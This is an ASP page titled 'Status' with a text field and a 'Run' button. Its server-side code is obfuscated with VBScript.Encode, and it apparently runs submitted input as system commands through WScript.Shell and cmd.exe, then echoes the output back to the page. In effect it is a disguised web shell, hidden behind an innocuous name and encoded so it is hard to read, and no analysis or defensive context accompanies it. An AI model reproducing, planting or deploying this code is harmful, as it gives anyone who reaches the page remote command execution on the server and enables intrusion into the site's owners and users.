<%@ LANGUAGE = VBScript.Encode %>
<html><head><title>Status</title></head><body>
<form method="post"><input name="q" size="60"><input type="submit" value="Run"></form>
<%#@~^/gAAAA==@#@&frsPK?tV^SPkZhN@#@&d/sNP{~I;EdORwWM:cJ5E*@#@&q6~/;:[~@!@*PEE,K4+	@#@&P~U+DPWUtsV,'~?D-nMRZMnlD+r(%nmD`rjm.raY ?4nV^Jb@#@&PP]nkwGxknc.bYPJ@!wMn@*rP'PU+.-DR_PHd2x1G[+vWUtnVs A6nmvEmsN nX+P&^,J~[,d;:[*RUYN}ED Il[b^Vb~LPJ@!&wM+@*r@#@&2	N,qW@#@&xkYAAA==^#~@%>
</body></html>
